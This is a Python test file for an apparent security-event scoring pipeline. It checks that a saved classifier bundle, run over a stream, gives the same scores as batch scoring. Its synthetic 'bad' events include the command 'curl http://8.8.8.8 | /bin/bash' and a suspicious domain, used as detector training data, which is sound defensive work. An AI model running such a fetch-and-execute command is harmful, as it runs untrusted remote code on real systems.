"""Model bundle round trip; scoring stream = scoring batch."""

from pyspark.sql import functions as F

from secstream.functions.features import MODEL_FEATURES
from secstream.operators import models as MD
from secstream.streaming.scoring import run_scoring

ATTRS = ("dns_query string, dns_response_code int, args string, return_value bigint, user_id bigint")


def _events(spark):
    rows = []
    for i in range(60):
        bad = i % 3 == 0
        rows.append((f"d{i}", "dns" if i % 2 else "standard_host",
                     ("xkcdqwertz.evil.ru" if bad else "a.example.com", 3 if bad else 0,
                      "curl http://8.8.8.8 | /bin/bash" if bad else "ls", -1 if bad else 0, 0 if bad else 1000), int(bad)))
    rows.append(("odd", "never_seen", (None, None, None, None, None), 0))
    return spark.createDataFrame(rows, f"doc_id string, log_type string, attributes struct<{ATTRS}>, y int")


def test_bundle_and_stream_give_the_batch_scores(spark, tmp_path):
    ev = _events(spark)
    classes = ["dns", "standard_host"]
    frame = MD.serving_frame(ev, classes).withColumn("sus", F.col("y")).withColumn("evil", F.col("y"))
    params = {**MD.EVIL_PARAMS, "max_depth": 2, "learning_rate": 0.3}
    models = {n: MD.train(frame, frame, n, params, max_rounds=4) for n in ("sus", "evil")}
    meta = {"classes": classes, "thresholds": {"sus": 0.5, "evil": 0.9}}
    key = ["doc_id", *[f"{n}_{f}" for n in ("sus", "evil") for f in ("probability", "flag", "threshold")]]
    events = ev.drop("y")
    batch = sorted(map(tuple, MD.score_events(events, models, meta).select(*key).collect()))
    MD.save_bundle(spark, models, meta["thresholds"], classes, f"{tmp_path}/bundle")
    events.repartition(3).write.parquet(f"{tmp_path}/src")
    stream = spark.readStream.schema(events.schema).option("maxFilesPerTrigger", 1).parquet(f"{tmp_path}/src")
    for _ in range(2):  # a restart scores nothing twice
        run_scoring(spark, stream, f"{tmp_path}/bundle", f"{tmp_path}/out", f"{tmp_path}/ckpt")
    out = spark.read.parquet(f"{tmp_path}/out")
    assert sorted(map(tuple, out.select(*key).collect())) == batch and len(batch) == 61
    assert not set(MODEL_FEATURES) & set(out.columns)
    flags = {r["doc_id"]: r["sus_flag"] for r in out.collect()}
    assert flags["d0"] and not flags["d1"]
